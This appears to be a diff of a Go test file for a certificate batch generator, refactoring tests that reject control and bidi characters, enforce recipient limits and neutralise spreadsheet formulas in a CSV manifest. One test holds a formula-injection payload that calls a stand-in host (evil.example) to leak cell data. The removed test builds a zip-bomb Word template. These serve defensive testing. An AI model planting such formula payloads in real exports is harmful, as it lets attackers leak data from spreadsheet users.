@@ -1,7 +1,6 @@
-package certificate
+package certprint
 
 import (
-	"archive/zip"
 	"bytes"
 	"context"
 	"encoding/binary"
@@ -17,6 +16,7 @@ import (
 
 	"github.com/vanban/vanban/internal/apperr"
 	"github.com/vanban/vanban/internal/award"
+	"github.com/vanban/vanban/internal/certificate"
 )
 
 // Issue 10 item 8: control characters, line breaks and bidi overrides in a
@@ -26,7 +26,7 @@ func TestBatchRefusesControlAndBidiCharacters(t *testing.T) {
 	for _, bad := range []string{"A\r\nB", "A\tB", "A\u0001B", "A\u007fB", "A\u0085B", "A\u202eB", "A😀", "中文"} {
 		b := loadBatch(t)
 		b.Recipients[2].Name = bad
-		_, err := Generator{UUIDs: newSeeded()}.Prepare(b)
+		_, err := gen(t).Prepare(b)
 		e := apperr.As(err)
 		if err == nil || e.Kind != apperr.Invalid {
 			t.Fatalf("%q: err = %v, want Invalid", bad, err)
@@ -41,13 +41,13 @@ func TestBatchRefusesControlAndBidiCharacters(t *testing.T) {
 	}
 	b := loadBatch(t)
 	b.Decision.Signer.Name = "Nguyễn\u202eVăn"
-	if _, err := (Generator{UUIDs: newSeeded()}).Prepare(b); err == nil || !strings.Contains(err.Error(), "decision.signer.name") {
+	if _, err := gen(t).Prepare(b); err == nil || !strings.Contains(err.Error(), "decision.signer.name") {
 		t.Errorf("bidi in signer: %v", err)
 	}
 	// é ü ñ ř keep working.
 	b = loadBatch(t)
 	b.Recipients[2].Name = "José Müller Muñoz Dvořák"
-	if _, err := (Generator{UUIDs: newSeeded()}).Prepare(b); err != nil {
+	if _, err := gen(t).Prepare(b); err != nil {
 		t.Errorf("Latin accents refused: %v", err)
 	}
 }
@@ -57,8 +57,8 @@ func TestBatchRefusesControlAndBidiCharacters(t *testing.T) {
 func TestManifestNeutralisesFormulas(t *testing.T) {
 	var buf bytes.Buffer
 	name := `=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`
-	if err := WriteManifest(&buf, []Issued{{UUID: "u", Number: 1, Recipient: Recipient{Nomination: award.Nomination{Kind: award.Collective, Name: name}}, File: "001.pdf"},
-		{UUID: "v", Number: 2, Recipient: Recipient{Nomination: award.Nomination{Kind: award.Collective, Name: "@cmd"}}, File: "002.pdf"}}); err != nil {
+	if err := WriteManifest(&buf, []certificate.Issued{{UUID: "u", Number: 1, Recipient: certificate.Recipient{Nomination: award.Nomination{Kind: award.Collective, Name: name}}, File: "001.pdf"},
+		{UUID: "v", Number: 2, Recipient: certificate.Recipient{Nomination: award.Nomination{Kind: award.Collective, Name: "@cmd"}}, File: "002.pdf"}}); err != nil {
 		t.Fatal(err)
 	}
 	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\uFEFF"))).ReadAll()
@@ -81,24 +81,24 @@ func TestBatchMaximum(t *testing.T) {
 	b := loadBatch(t)
 	r := b.Recipients[0]
 	b.Recipients = nil
-	b.Numbering = &Numbering{Start: 1}
-	for range MaxRecipients + 1 {
+	b.Numbering = &certificate.Numbering{Start: 1}
+	for range certificate.MaxRecipients + 1 {
 		r.Number = 0
 		b.Recipients = append(b.Recipients, r)
 	}
-	_, err := Generator{UUIDs: newSeeded()}.Prepare(b)
+	_, err := gen(t).Prepare(b)
 	if e := apperr.As(err); e.Kind != apperr.TooLarge || e.Code != "too_many_recipients" {
-		t.Fatalf("%d recipients: %v", MaxRecipients+1, err)
+		t.Fatalf("%d recipients: %v", certificate.MaxRecipients+1, err)
 	}
-	b.Recipients = b.Recipients[:MaxZIPRecipients+1]
-	b.Files = FileDOCX
-	job, err := Generator{UUIDs: newSeeded()}.Prepare(b)
+	b.Recipients = b.Recipients[:certificate.MaxZIPRecipients+1]
+	b.Files = certificate.FileDOCX
+	job, err := gen(t).Prepare(b)
 	if err != nil {
 		t.Fatal(err)
 	}
 	err = job.WriteZIP(io.Discard)
 	if e := apperr.As(err); e.Kind != apperr.TooLarge || e.Code != "too_many_recipients" {
-		t.Fatalf("ZIP of %d: %v", MaxZIPRecipients+1, err)
+		t.Fatalf("ZIP of %d: %v", certificate.MaxZIPRecipients+1, err)
 	}
 }
 
@@ -106,8 +106,8 @@ func TestBatchMaximum(t *testing.T) {
 // certificates.
 func TestBatchStopsWhenCallerGone(t *testing.T) {
 	b := loadBatch(t)
-	b.Files = FileDOCX
-	job, err := Generator{UUIDs: newSeeded()}.Prepare(b)
+	b.Files = certificate.FileDOCX
+	job, err := gen(t).Prepare(b)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -155,25 +155,6 @@ func writeChunk(w *bytes.Buffer, typ string, data []byte) {
 	w.Write(n[:])
 }
 
-// Issue 10 item 5: a Word template with a huge part is refused from the
-// zip's directory, before the part is read.
-func TestWordTemplateBombRefused(t *testing.T) {
-	var buf bytes.Buffer
-	zw := zip.NewWriter(&buf)
-	w, _ := zw.Create("word/document.xml")
-	w.Write([]byte(`<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>`))
-	chunk := bytes.Repeat([]byte(" "), 1<<20)
-	for range 64 { // 64 MiB of blanks, a few KB compressed
-		w.Write(chunk)
-	}
-	w.Write([]byte(`</w:body></w:document>`))
-	zw.Close()
-	_, err := ParseWordTemplate(buf.Bytes())
-	if e := apperr.As(err); e.Kind != apperr.TooLarge || e.Code != "word_template_too_large" {
-		t.Fatalf("err = %v", err)
-	}
-}
-
 // Issue 10 item 8, through the JSON of a batch: a line break or a tab in a
 // name is refused, not folded into a space.
 func TestBatchJSONRefusesLineBreaksInNames(t *testing.T) {
@@ -186,7 +167,7 @@ func TestBatchJSONRefusesLineBreaksInNames(t *testing.T) {
 		if in == string(data) {
 			t.Fatal("no name in the batch")
 		}
-		_, err := ParseBatch([]byte(in), nil)
+		_, err := certificate.ParseBatch([]byte(in), nil)
 		if e := apperr.As(err); err == nil || e.Kind != apperr.Invalid {
 			t.Errorf("%s: %v", c, err)
 		}
